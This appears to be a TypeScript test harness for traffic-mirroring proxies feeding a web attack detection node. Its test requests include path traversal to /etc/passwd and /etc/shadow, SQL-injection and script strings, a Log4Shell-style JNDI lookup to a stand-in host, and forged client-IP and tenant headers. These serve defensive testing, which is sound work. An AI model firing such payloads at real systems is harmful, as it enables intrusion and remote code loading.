// What every mirroring proxy must do, as data: requests whose copy must reach the node, and failures of the node that
// no client may notice.
import assert from 'node:assert/strict';
import type { TestContext } from 'node:test';
import { startNode, verdict } from '../wallarm-node/node.ts';
import { have } from './program.ts';
import { freePort } from '../free-port.ts';
import { Client, DetectionNode, goAway, startApp, upgrade, values, type Ask, type Recorded, type Recorder } from './stand-ins.ts';

export interface Addresses {
  /** Where clients come in. */
  front: number;
  app: number;
  node: number;
}

/** What a product does differently, each with its sentence in examples/http-mirror/README.md. */
export interface Product {
  start: (t: TestContext, at: Addresses) => Promise<void>;
  /** Largest body that is copied whole; larger ones reach the application untouched. */
  maxBodyBytes?: number;
  /** The target as it arrives in the copy, where the product normalises it. */
  target?: (target: string) => string;
  /** False where an upgrade request has no copy. */
  copiesUpgrade?: boolean;
}

interface Lab extends Addresses {
  application: Recorder;
  detection: DetectionNode;
}

/** A running proxy between a new application and a new node (or no node: its port then refuses). */
export const lab = async (t: TestContext, product: Product, { withNode = true } = {}): Promise<Lab> => {
  const application = await startApp();
  const detection = new DetectionNode();
  const node = await freePort();
  if (withNode) await detection.start(node);
  const at = { front: await freePort(), app: application.port, node };
  t.after(async () => {
    detection.release();
    await detection.recorder.stop();
    await application.stop();
  });
  await product.start(t, at);
  return { ...at, application, detection };
};

const bytes = (length: number): Buffer => {
  const body = Buffer.alloc(length);
  for (let i = 0; i < length; i++) body[i] = (i * 31 + (i >> 8)) & 0xff;
  return body;
};

const COPIED: readonly (Ask & { name: string })[] = [
  { name: 'a GET with a query', path: '/catalogue?page=2&sort=price' },
  { name: 'the path traversal of the vendor\'s test', path: '/etc/passwd' },
  { name: 'percent encodings, kept as the client wrote them', path: '/a%2Fb/%2e%2e/c?x=%27%20or%201=1--&y=%3Cscript%3E' },
  { name: 'dot segments in the target', path: '/static/css/fonts/../../../etc/shadow' },
  { name: 'a HEAD', method: 'HEAD', path: '/catalogue' },
  { name: 'a DELETE', method: 'DELETE', path: '/orders/7' },
  { name: 'a PATCH', method: 'PATCH', path: '/orders/8', body: Buffer.from('{"state":"paid"}') },
  { name: 'a POST with a Content-Length', method: 'POST', path: '/login', body: Buffer.from('user=admin&password=%27+or+1%3D1'),
    headers: { 'Content-Type': 'application/x-www-form-urlencoded' } },
  { name: 'a POST in chunks', method: 'POST', path: '/upload/chunked', body: bytes(20_000), chunk: 777 },
  { name: 'a POST of 1 MB', method: 'POST', path: '/upload/large', body: bytes(1_000_000) },
  { name: 'a POST of 1 MB in chunks', method: 'POST', path: '/upload/large-chunked', body: bytes(1_000_000), chunk: 60_000 },
  { name: 'fields that are sent twice, and an attack in one', path: '/fields',
    headers: { 'X-Twice': ['one', 'two'], 'User-Agent': '${jndi:ldap://a.example/x}' } },
  { name: 'an answer that is not 200', path: '/teapot' },
];

const expectAnswer = (
  answer: { status: number; fields: (readonly [string, string])[]; body: string }, ask: Ask, target: string,
): void => {
  assert.equal(answer.status, ask.path === '/teapot' ? 418 : 200);
  const body = `app: ${ask.method ?? 'GET'} ${target} ${ask.body?.length ?? 0}`;
  assert.equal(answer.body, ask.method === 'HEAD' ? '' : body, 'the client has the application\'s answer');
  assert.ok(answer.fields.some(([name]) => name.toLowerCase() === 'x-app'));
  assert.ok(!answer.fields.some(([name]) => name.toLowerCase() === 'x-node'), 'nothing of the node\'s answer reaches a client');
};

/** The sub-tests every product runs. `each` may look at a copy for what only that product sets. */
export const mirrors = async (
  t: TestContext, product: Product, each: (copy: Recorded, client: Client) => void,
): Promise<void> => {
  const target = product.target ?? ((path: string) => path);

  await t.test('the client has its answer, and the node the copy', async (t) => {
    const { front, application, detection } = await lab(t, product);
    for (const ask of COPIED) {
      await t.test(ask.name, async () => {
        const client = new Client(front);
        try {
          expectAnswer(await client.ask(ask), ask, target(ask.path));
          const got = application.requests.at(-1);
          assert.deepEqual(got?.body, ask.body ?? Buffer.alloc(0), 'the application has the body');
          if ((ask.body?.length ?? 0) > (product.maxBodyBytes ?? Infinity)) return;
          const copy = await detection.recorder.waitFor((request) => request.target === target(ask.path), `copy of ${ask.path}`);
          assert.equal(copy.method, ask.method ?? 'GET');
          assert.ok(copy.body.equals(ask.body ?? Buffer.alloc(0)), `the copy has the body: ${copy.body.length} bytes`);
          for (const [name, value] of Object.entries(ask.headers ?? {})) {
            assert.deepEqual(values(copy, name), [value].flat(), name);
          }
          assert.deepEqual(values(copy, 'host'), ['shop.example'], 'Host as the client sent it');
          each(copy, client);
        } finally {
          client.close();
        }
      });
    }
  });

  await t.test('an upgrade still works, and its request is copied', async (t) => {
    const { front, detection } = await lab(t, product);
    assert.deepEqual(await upgrade(front, '/socket?token=1', 'hello both ways'), { status: 101, echoed: 'hello both ways' });
    if (product.copiesUpgrade === false) return;
    const copy = await detection.recorder.waitFor((request) => request.target === '/socket?token=1', 'copy of the upgrade request');
    assert.equal(copy.method, 'GET');
  });

  await t.test('a client that goes away before its answer is inspected all the same', async (t) => {
    const { front, application, detection } = await lab(t, product);
    const path = '/never?x=../../etc/passwd';
    await goAway(front, path, () => application.waitFor((request) => request.target === path, 'request'));
    await detection.recorder.waitFor((request) => request.target === path, 'copy of a request whose client has gone');
  });

  const post = { method: 'POST', path: '/orders', body: Buffer.from('{"item":7}') };
  const burst = async (front: number, t: TestContext): Promise<void> => {
    const client = new Client(front);
    t.after(() => client.close());
    for (let i = 0; i < 5; i++) {
      expectAnswer(await client.ask({ path: `/kept-alive/${i}` }), { path: `/kept-alive/${i}` }, `/kept-alive/${i}`);
      expectAnswer(await client.ask(post), post, '/orders');
    }
  };

  await t.test('the node is down: its port refuses', async (t) => {
    const { front } = await lab(t, product, { withNode: false });
    await burst(front, t);
  });

  await t.test('the node answers with an error', async (t) => {
    const { front, detection } = await lab(t, product);
    detection.status = 500;
    await burst(front, t);
    await detection.recorder.waitFor((request) => request.target === '/kept-alive/4', 'copy of the last request');
  });

  // No clocks: whatever time a node takes, a client is served before the node has answered anything.
  await t.test('the node does not answer: ten requests of one connection are served before it does', async (t) => {
    const { front, detection } = await lab(t, product);
    detection.hold();
    await burst(front, t);
    await detection.recorder.waitFor((request) => request.target === '/kept-alive/0', 'copy of the first request');
    assert.equal(detection.answered, 0, 'the node had answered nothing when the client had everything');
  });
};

/**
 * Everything that a node believes, as a client may send it. X-Mirror-Id is what copies are told apart by
 * (docs/choosing.md).
 */
const FORGED: Record<string, string> = {
  'X-Forwarded-For': '6.6.6.6', 'X-Real-IP': '6.6.6.6', 'X-Forwarded-Port': '6', 'X-Forwarded-Proto': 'gopher', 'X-Scheme': 'gopher',
  'X-SERVER-ADDR': '6.6.6.6', 'X-SERVER-PORT': '6', 'X-Response-Status': '204', 'X-Response-Time': '6.6', 'X-Response-Size': '6',
  'X-Mirror-Id': 'forged', 'X-Mirror-Application': '6', 'X-Mirror-Partner': '66666666-6666-6666-6666-666666666666', 'X_Server_Addr': '6.6.6.6', 'X_Forwarded_For': '6.6.6.6', 'X_Response_Status': '204',
};

interface Contract {
  /** Where the product is not the server itself but a hop behind it: its own listening port, whatever that is. */
  behindHop?: boolean;
  /** The product replaces a stranger's X-Forwarded-For, for the application too: nothing is left of it to inspect. */
  replacesForwardedFor?: boolean;
}

/** What a node with examples/wallarm-node/mirror.conf makes of the copy of an honest and of a forging client. */
export const contract = async (
  t: TestContext, product: Product, { behindHop = false, replacesForwardedFor = false }: Contract = {},
): Promise<void> => {
  await t.test('the node\'s view, forged headers included', async (t) => {
    if (!have(t, 'nginx', 'apt-get install nginx')) return;
    const { front, detection, node } = await lab(t, product, { withNode: false });
    await detection.start();
    await startNode(t, { port: node, recorder: detection.recorder.port, trusted: ['127.0.0.1/32'] });
    const client = new Client(front, '127.0.0.77');
    t.after(() => client.close());
    for (const [path, headers] of [['/honest', {}], ['/forged', FORGED]] as const) {
      await t.test(path, async () => {
        await client.ask({ path, headers });
        const copy = await detection.recorder.waitFor((request) => request.target === path, `copy of ${path}`);
        const { server_port: serverPort, ...rest } = verdict(copy);
        assert.deepEqual(rest, { remote_addr: '127.0.0.77', server_addr: '127.0.0.1', response_status: '0', response_time: '0', response_size: '0', application: '' });
        assert.deepEqual(values(copy, 'X-Mirror-Partner'), [], 'no client chooses the tenant of its copy');
        if (behindHop) assert.match(serverPort, /^\d{4,5}$/);
        else assert.equal(serverPort, String(front));
        assert.ok(!values(copy, 'X-Mirror-Id').includes('forged'), 'no client chooses the id of its copy');
        assert.deepEqual(values(copy, 'X-Scheme'), ['http']);
        if (path !== '/forged' || replacesForwardedFor) return;
        assert.match(values(copy, 'X-Mirror-Original-X-Forwarded-For').join(), /6\.6\.6\.6/, 'the forged value is inspected');
      });
    }
  });
};
